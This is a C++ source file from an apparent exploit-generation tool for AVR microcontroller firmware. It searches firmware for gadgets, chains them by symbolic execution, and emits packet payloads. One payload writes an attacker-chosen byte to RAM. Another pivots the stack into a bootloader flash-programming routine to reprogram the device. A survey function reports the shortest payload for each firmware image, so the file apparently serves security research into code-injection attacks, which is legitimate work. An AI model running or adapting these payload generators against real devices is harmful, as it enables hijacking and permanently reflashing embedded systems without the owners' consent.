#include "avrrop/chains.hpp"

#include <fmt/format.h>

#include <algorithm>
#include <array>
#include <map>
#include <nlohmann/json.hpp>

#include "avrrop/error.hpp"

namespace avrrop {

using isa::Op;

namespace {

using Value = std::optional<std::uint16_t>;  // payload offset feeding a register

struct SymStore {
  Value lo, hi, data;
  std::uint8_t displacement = 0;
};

// Abstract execution of a gadget sequence over the attacker-controlled payload.
struct Sym {
  std::array<Value, 32> regs{};
  std::uint16_t cursor = 0;
  std::vector<PayloadSlot> layout;
  std::vector<SymStore> stores;
  Value sp_lo, sp_hi;
  bool sp_lo_written = false;
  bool sp_hi_written = false;
  bool pivoted = false;
  std::vector<std::uint8_t> post_pivot_pops;
  bool bad = false;
};

void add_address_slots(Sym& s, std::uint8_t gadget_index) {
  s.layout.push_back({s.cursor++, SlotKind::GadgetAddrLow, {}, gadget_index});
  s.layout.push_back({s.cursor++, SlotKind::GadgetAddrHigh, {}, gadget_index});
}

void clobber(Sym& s, std::uint32_t mask) {
  for (unsigned r = 0; r < 32; ++r) {
    if (mask & (1u << r)) s.regs[r].reset();
  }
}

// Applies one gadget. `allow_pivot` permits SP writes (Reprogram goal); after
// both SP bytes are written the remaining pops come from the fake stack.
void apply(Sym& s, const Gadget& g, std::uint8_t index, bool allow_pivot) {
  if (!g.effects || g.effects->spm_present) {
    s.bad = true;
    return;
  }
  add_address_slots(s, index);
  for (std::size_t n = 0; n + 1 < g.body.size() && !s.bad; ++n) {
    const isa::Instruction& i = g.body[n];
    if (s.pivoted) {
      if (i.op == Op::Pop) s.post_pivot_pops.push_back(i.rd);
      continue;
    }
    switch (i.op) {
      case Op::Pop:
        s.regs[i.rd] = s.cursor;
        s.layout.push_back({s.cursor++, SlotKind::Padding, {}, 0});
        break;
      case Op::Movw:
        s.regs[i.rd] = s.regs[i.rr];
        s.regs[i.rd + 1u] = s.regs[i.rr + 1u];
        break;
      case Op::Mov:
        s.regs[i.rd] = s.regs[i.rr];
        break;
      case Op::StZ:
      case Op::StZInc:
      case Op::StdZ:
        if (allow_pivot) {
          s.bad = true;
          break;
        }
        s.stores.push_back({s.regs[30], s.regs[31], s.regs[i.rr], i.op == Op::StdZ ? i.q : std::uint8_t{0}});
        clobber(s, written_registers(i));
        break;
      case Op::Sts:
        s.bad = true;  // absolute stores are collateral writes
        break;
      case Op::Out:
        if (i.io == kIoSpl || i.io == kIoSph) {
          if (!allow_pivot) {
            s.bad = true;
            break;
          }
          if (i.io == kIoSpl) {
            s.sp_lo = s.regs[i.rr];
            s.sp_lo_written = true;
          } else {
            s.sp_hi = s.regs[i.rr];
            s.sp_hi_written = true;
          }
          if (s.sp_lo_written && s.sp_hi_written) s.pivoted = true;
        }
        break;
      default:
        clobber(s, written_registers(i));
        break;
    }
  }
}

bool distinct_slots(std::initializer_list<Value> vs) {
  std::vector<std::uint16_t> seen;
  for (const auto& v : vs) {
    if (!v) return false;
    if (std::find(seen.begin(), seen.end(), *v) != seen.end()) return false;
    seen.push_back(*v);
  }
  return true;
}

void name_slot(std::vector<PayloadSlot>& layout, std::uint16_t offset, const char* name) {
  for (auto& slot : layout) {
    if (slot.offset == offset) {
      slot.kind = SlotKind::Param;
      slot.param = name;
    }
  }
}

std::optional<GadgetChain> finish_write_byte(Sym s, const std::vector<const Gadget*>& seq) {
  if (s.bad || s.stores.size() != 1) return std::nullopt;
  const SymStore& st = s.stores.front();
  if (!distinct_slots({st.lo, st.hi, st.data})) return std::nullopt;
  s.layout.push_back({s.cursor++, SlotKind::RebootVector, {}, 0});
  s.layout.push_back({s.cursor++, SlotKind::RebootVector, {}, 0});
  name_slot(s.layout, *st.lo, kParamTargetLow);
  name_slot(s.layout, *st.hi, kParamTargetHigh);
  name_slot(s.layout, *st.data, kParamValue);

  GadgetChain c;
  c.goal = ChainGoal::write_byte();
  c.strategy = seq.size() == 1 ? Strategy::Ideal : seq.size() == 2 ? Strategy::LoadThenStore : Strategy::Bridged;
  for (const Gadget* g : seq) c.gadgets.push_back(*g);
  c.layout = std::move(s.layout);
  c.payload_length = s.cursor;
  c.store_displacement = st.displacement;
  return c;
}

std::optional<GadgetChain> finish_reprogram(Sym s, const std::vector<const Gadget*>& seq,
                                            const GadgetCatalog& catalog) {
  if (s.bad || !s.pivoted || !s.stores.empty()) return std::nullopt;
  if (!distinct_slots({s.sp_lo, s.sp_hi})) return std::nullopt;
  const auto& pops = s.post_pivot_pops;
  const auto popped = [&](unsigned r) { return std::find(pops.begin(), pops.end(), r) != pops.end(); };
  if (!popped(28) || !popped(29)) return std::nullopt;

  std::optional<std::uint32_t> spm_entry;
  for (const auto& routine : catalog.spm_routines) {
    if (routine.entry < catalog.bootloader_start) continue;
    if (!popped(routine.dest_reg) || !popped(routine.dest_reg + 1u)) continue;
    if (routine.rampz_reg && !popped(*routine.rampz_reg)) continue;
    spm_entry = routine.entry;
    break;
  }
  if (!spm_entry) return std::nullopt;

  name_slot(s.layout, *s.sp_hi, kParamFspHigh);
  name_slot(s.layout, *s.sp_lo, kParamFspLow);
  GadgetChain c;
  c.goal = ChainGoal::reprogram();
  c.strategy = Strategy::Pivot;
  for (const Gadget* g : seq) c.gadgets.push_back(*g);
  c.layout = std::move(s.layout);
  c.payload_length = s.cursor;
  c.spm_entry = spm_entry;
  c.post_pivot_pops = pops;
  return c;
}

bool has_mov(const Gadget& g) {
  return std::any_of(g.body.begin(), g.body.end(),
                     [](const isa::Instruction& i) { return i.op == Op::Mov || i.op == Op::Movw; });
}

// One representative per distinct body, lowest entry first.
std::vector<const Gadget*> unique_bodies(const std::vector<const Gadget*>& in) {
  std::vector<const Gadget*> out;
  for (const Gadget* g : in) {
    const bool dup = std::any_of(out.begin(), out.end(), [&](const Gadget* o) { return o->body == g->body; });
    if (!dup) out.push_back(g);
  }
  return out;
}

std::vector<GadgetChain> write_byte_candidates(const GadgetCatalog& catalog) {
  std::vector<const Gadget*> stores, links;
  for (const auto& g : catalog.gadgets) {
    // Returning to word 0 is a reboot, so a gadget there cannot be chained.
    if (g.entry == 0) continue;
    if (!g.effects || g.effects->spm_present || g.effects->writes_sp()) continue;
    const auto& st = g.effects->stores;
    const bool absolute = std::any_of(st.begin(), st.end(), [](const StoreEffect& e) {
      return e.source == StoreEffect::Source::Absolute;
    });
    if (absolute) continue;
    if (st.size() == 1) stores.push_back(&g);
    else if (st.empty() && (!g.effects->pops.empty() || has_mov(g))) links.push_back(&g);
  }
  stores = unique_bodies(stores);
  links = unique_bodies(links);

  std::vector<GadgetChain> out;
  for (const Gadget* s3 : stores) {
    Sym s;
    apply(s, *s3, 0, false);
    if (auto c = finish_write_byte(s, {s3})) out.push_back(std::move(*c));
  }
  for (const Gadget* g1 : links) {
    if (g1->effects->pops.empty()) continue;
    Sym s1;
    apply(s1, *g1, 0, false);
    if (s1.bad) continue;
    for (const Gadget* s3 : stores) {
      Sym s = s1;
      apply(s, *s3, 1, false);
      if (auto c = finish_write_byte(s, {g1, s3})) out.push_back(std::move(*c));
    }
    for (const Gadget* g2 : links) {
      Sym s2 = s1;
      apply(s2, *g2, 1, false);
      if (s2.bad) continue;
      for (const Gadget* s3 : stores) {
        Sym s = s2;
        apply(s, *s3, 2, false);
        if (auto c = finish_write_byte(s, {g1, g2, s3})) out.push_back(std::move(*c));
      }
    }
  }
  return out;
}

std::vector<GadgetChain> reprogram_candidates(const GadgetCatalog& catalog) {
  std::vector<const Gadget*> pivots, loaders;
  for (const auto& g : catalog.gadgets) {
    if (g.entry == 0) continue;
    if (!g.effects || g.effects->spm_present) continue;
    if (g.effects->sp_low_write() && g.effects->sp_high_write()) pivots.push_back(&g);
    else if (!g.effects->writes_sp() && g.effects->stores.empty() && !g.effects->pops.empty()) {
      loaders.push_back(&g);
    }
  }
  pivots = unique_bodies(pivots);
  loaders = unique_bodies(loaders);

  std::vector<GadgetChain> out;
  for (const Gadget* p : pivots) {
    Sym s;
    apply(s, *p, 0, true);
    if (auto c = finish_reprogram(s, {p}, catalog)) out.push_back(std::move(*c));
  }
  for (const Gadget* l : loaders) {
    Sym s1;
    apply(s1, *l, 0, true);
    if (s1.bad || s1.pivoted) continue;
    for (const Gadget* p : pivots) {
      Sym s = s1;
      apply(s, *p, 1, true);
      if (auto c = finish_reprogram(s, {l, p}, catalog)) out.push_back(std::move(*c));
    }
  }
  return out;
}

bool fits(const GadgetChain& c, const SynthesisConstraints& k) {
  const std::uint32_t total = static_cast<std::uint32_t>(k.padding_prefix) + c.payload_length;
  return total <= k.max_packet_payload && static_cast<std::uint32_t>(k.buffer_start) + total <= k.ram_end;
}

void check_fits(const GadgetChain& c, const SynthesisConstraints& k) {
  const std::uint32_t total = static_cast<std::uint32_t>(k.padding_prefix) + c.payload_length;
  if (total > k.max_packet_payload) {
    throw Error(ErrorCode::PayloadTooLong, fmt::format("{} prefix + {} chain bytes exceed {}",
                                                       k.padding_prefix, c.payload_length,
                                                       k.max_packet_payload));
  }
  if (static_cast<std::uint32_t>(k.buffer_start) + total > k.ram_end) {
    throw Error(ErrorCode::PayloadTooLong,
                fmt::format("payload from 0x{:04x} runs past 0x{:04x}", k.buffer_start, k.ram_end));
  }
}

std::vector<std::uint8_t> emit(const GadgetChain& c, const SynthesisConstraints& k,
                               const std::map<std::string, std::uint8_t>& params) {
  k.validate();
  check_fits(c, k);
  std::vector<std::uint8_t> out;
  for (std::uint16_t n = 0; n < k.padding_prefix; ++n) out.push_back(static_cast<std::uint8_t>(n));
  const auto entries = c.entries();
  for (const auto& slot : c.layout) {
    switch (slot.kind) {
      case SlotKind::GadgetAddrLow: out.push_back(static_cast<std::uint8_t>(entries.at(slot.gadget))); break;
      case SlotKind::GadgetAddrHigh: out.push_back(static_cast<std::uint8_t>(entries.at(slot.gadget) >> 8)); break;
      case SlotKind::Param: out.push_back(params.at(slot.param)); break;
      case SlotKind::Padding:
      case SlotKind::RebootVector: out.push_back(0x00); break;
    }
  }
  return out;
}

}  // namespace

std::vector<std::uint32_t> GadgetChain::entries() const {
  std::vector<std::uint32_t> out;
  for (const auto& g : gadgets) out.push_back(g.entry);
  return out;
}

void SynthesisConstraints::validate() const {
  if (max_packet_payload < padding_prefix + 2) {
    throw Error(ErrorCode::InvalidArgument, "max_packet_payload must be >= padding_prefix + 2");
  }
  if (ram_end > kRamEnd || buffer_start >= ram_end) {
    throw Error(ErrorCode::InvalidArgument, "buffer_start must lie below ram_end <= 0x1100");
  }
}

std::string_view to_string(Strategy s) {
  switch (s) {
    case Strategy::Ideal: return "ideal";
    case Strategy::LoadThenStore: return "load-then-store";
    case Strategy::Bridged: return "bridged";
    case Strategy::Pivot: return "pivot";
  }
  return "?";
}

std::string_view to_string(SlotKind k) {
  switch (k) {
    case SlotKind::GadgetAddrLow: return "GadgetAddrLow";
    case SlotKind::GadgetAddrHigh: return "GadgetAddrHigh";
    case SlotKind::Param: return "Param";
    case SlotKind::Padding: return "Padding";
    case SlotKind::RebootVector: return "RebootVector";
  }
  return "?";
}

std::vector<GadgetChain> synthesize_chain(const GadgetCatalog& catalog, const ChainGoal& goal,
                                          const SynthesisConstraints& constraints) {
  constraints.validate();
  auto all = goal.kind == GoalKind::WriteByte ? write_byte_candidates(catalog)
                                              : reprogram_candidates(catalog);
  if (all.empty()) {
    throw Error(ErrorCode::NoChainFound, goal.kind == GoalKind::WriteByte
                                             ? "no gadget sequence writes an attacker-chosen byte"
                                             : "no stack pivot reaches a bootloader SPM routine");
  }
  std::vector<GadgetChain> ok;
  for (auto& c : all) {
    if (fits(c, constraints)) ok.push_back(std::move(c));
  }
  if (ok.empty()) {
    const auto shortest = std::min_element(all.begin(), all.end(), [](const auto& a, const auto& b) {
      return a.payload_length < b.payload_length;
    });
    throw Error(ErrorCode::ConstraintUnsatisfiable,
                fmt::format("{} chains found, shortest needs {} + {} bytes (limit {})", all.size(),
                            constraints.padding_prefix, shortest->payload_length,
                            constraints.max_packet_payload));
  }
  std::sort(ok.begin(), ok.end(), [](const GadgetChain& a, const GadgetChain& b) {
    if (a.payload_length != b.payload_length) return a.payload_length < b.payload_length;
    return a.entries() < b.entries();
  });
  if (ok.size() > constraints.max_chains) ok.resize(constraints.max_chains);
  return ok;
}

std::vector<std::uint8_t> emit_injection_payload(const GadgetChain& chain, std::uint16_t target,
                                                 std::uint8_t value,
                                                 const SynthesisConstraints& constraints) {
  if (chain.goal.kind != GoalKind::WriteByte) {
    throw Error(ErrorCode::InvalidArgument, "chain does not realize WriteByte");
  }
  if (target >= kRamEnd) throw Error(ErrorCode::InvalidArgument, fmt::format("target 0x{:x}", target));
  const std::uint16_t addr = static_cast<std::uint16_t>(target - chain.store_displacement);
  return emit(chain, constraints,
              {{kParamTargetLow, static_cast<std::uint8_t>(addr)},
               {kParamTargetHigh, static_cast<std::uint8_t>(addr >> 8)},
               {kParamValue, value}});
}

std::vector<std::uint8_t> emit_reprogramming_payload(const GadgetChain& chain, std::uint16_t fake_sp,
                                                     const SynthesisConstraints& constraints) {
  if (chain.goal.kind != GoalKind::Reprogram) {
    throw Error(ErrorCode::InvalidArgument, "chain does not realize Reprogram");
  }
  return emit(chain, constraints,
              {{kParamFspLow, static_cast<std::uint8_t>(fake_sp)},
               {kParamFspHigh, static_cast<std::uint8_t>(fake_sp >> 8)}});
}

std::string to_hex(const std::vector<std::uint8_t>& bytes) {
  std::string out;
  for (auto b : bytes) out += fmt::format("{:02x}", b);
  return out;
}

std::string chain_json(const GadgetChain& chain, const std::vector<std::uint8_t>& payload) {
  nlohmann::ordered_json j;
  j["goal"] = chain.goal.kind == GoalKind::WriteByte ? "write-byte" : "reprogram";
  j["strategy"] = to_string(chain.strategy);
  j["gadgets"] = nlohmann::ordered_json::array();
  for (const auto& g : chain.gadgets) {
    nlohmann::ordered_json gj;
    gj["entry"] = fmt::format("0x{:04x}", g.entry);
    gj["disassembly"] = nlohmann::ordered_json::array();
    for (const auto& i : g.body) gj["disassembly"].push_back(isa::format_instruction(i));
    j["gadgets"].push_back(gj);
  }
  j["layout"] = nlohmann::ordered_json::array();
  for (const auto& s : chain.layout) {
    nlohmann::ordered_json sj;
    sj["offset"] = s.offset;
    sj["kind"] = to_string(s.kind);
    if (s.kind == SlotKind::Param) sj["param"] = s.param;
    if (s.kind == SlotKind::GadgetAddrLow || s.kind == SlotKind::GadgetAddrHigh) sj["gadget"] = s.gadget;
    j["layout"].push_back(sj);
  }
  j["payload_length"] = chain.payload_length;
  if (chain.spm_entry) j["spm_entry"] = fmt::format("0x{:04x}", *chain.spm_entry);
  j["payload_hex"] = to_hex(payload);
  j["payload_total"] = payload.size();
  return j.dump(2) + "\n";
}

SurveyRow survey_application(const FirmwareImage& image, const SynthesisConstraints& constraints) {
  SurveyRow row;
  row.application = image.application.empty() ? std::string("unnamed") : image.application;
  row.code_size_kb = image.application_code_bytes() / 1024.0;
  ScanConfig cfg;
  cfg.sections = SectionFilter::Application;
  try {
    const auto chains = synthesize_chain(scan_gadgets(image, cfg), ChainGoal::write_byte(), constraints);
    row.payload_length = static_cast<std::uint16_t>(constraints.padding_prefix + chains.front().payload_length);
  } catch (const Error& e) {
    if (e.code() != ErrorCode::NoChainFound && e.code() != ErrorCode::ConstraintUnsatisfiable) throw;
  }
  return row;
}

std::string survey_table(const std::vector<SurveyRow>& rows) {
  std::string out = fmt::format("{:<24} {:>14} {:>17}\n", "application", "code size (KB)", "payload len. (B)");
  for (const auto& r : rows) {
    out += fmt::format("{:<24} {:>14.1f} {:>17}\n", r.application, r.code_size_kb,
                       r.payload_length ? std::to_string(*r.payload_length) : std::string("none"));
  }
  return out;
}

}  // namespace avrrop
